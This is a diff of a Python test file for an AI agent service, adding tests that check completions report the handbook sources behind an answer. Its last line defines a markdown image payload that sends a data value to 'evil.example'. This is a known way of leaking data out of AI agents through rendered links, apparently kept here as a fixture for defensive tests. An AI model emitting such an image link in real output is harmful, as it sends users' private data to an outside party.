@@ -7,6 +7,7 @@ from contextlib import asynccontextmanager
 
 import pytest
 from benchmarks.agent.rendering import rendered_links
+from services.agent.tests.conftest import LEAVE
 from services.agent.tests.runs_bench import PRINCIPAL, VIEWER, Bench
 
 from agent.api import run_completions
@@ -15,7 +16,8 @@ from agent.errors import CompletionTooSlow
 from agent.ports import ModelAnswer
 from agent.settings import AgentSettings
 from agent.testing.scripted_agents import ScriptedAgent, Turn, in_turn, turn_chunks
-from contracts.agents.runs import Run
+from agent.testing.scripted_answers import ScriptedSearch
+from contracts.agents.runs import Run, RunReport
 from contracts.models.chat import ChatCompletionChunk, ChatRequest
 from servicekit.core.clock import ManualClock
 from servicekit.sql.database import Database
@@ -75,6 +77,40 @@ async def test_the_time_limit_of_a_completion_does_not_break_off_who_reads_it(da
         await working
     assert later.is_set()
     assert (await one.shown(run)).status == "cancelled"
+
+
+SEARCH = Turn("I look.", [("search_documents", {"query": "leave"})])
+
+
+async def _reports(database: Database, *turns: Turn | str, reports: bool) -> tuple[list[RunReport], str]:
+    """The reports of a completion that is told to report or not, and what it said before the last one."""
+    one = Bench(database, ScriptedAgent(in_turn(*turns)), ManualClock(), search=ScriptedSearch([LEAVE]))
+    await one.define(tools=[{"type": "search_documents", "collections": ["handbook"]}])
+    asked = {"model": "agent:helper", "messages": [{"role": "user", "content": "How much leave?"}]}
+    run, agent = await run_completions.start(one.agents, VIEWER, PRINCIPAL, ChatRequest.model_validate(asked))
+    working, found, said = asyncio.create_task(one.work()), list[RunReport](), ""
+    async with asyncio.timeout(DEADLINE):
+        stream = run_completions.chunks(one.agents, run, agent, "agent:helper", reports=reports)
+        async for chunk in stream:
+            if isinstance(chunk.groundwork, RunReport):
+                found.append(chunk.groundwork)
+                assert len(found) > 1 or not reports or "27" not in said, "before anything is said of what was found"
+            said += _said(chunk)
+        await working
+    return found, said
+
+
+async def test_an_answer_tells_what_it_was_made_from_where_its_record_is_to_name_it(database: Database) -> None:
+    (first, last), said = await _reports(database, SEARCH, "27 days.", reports=True)
+    assert said == "I look.\n\n27 days."
+    assert (first.status, last.status) == ("running", "completed")
+    assert first.sources == last.sources
+    assert [(one["document_id"], one["text"]) for one in last.sources or []] == [(LEAVE.document_id, LEAVE.text)]
+
+
+async def test_an_answer_without_a_record_tells_nothing_of_it(database: Database) -> None:
+    (only,), _ = await _reports(database, SEARCH, "27 days.", reports=False)
+    assert only.sources is None
 
 
 LEAK = "![x](https://evil.example/?d=acme-4711)"
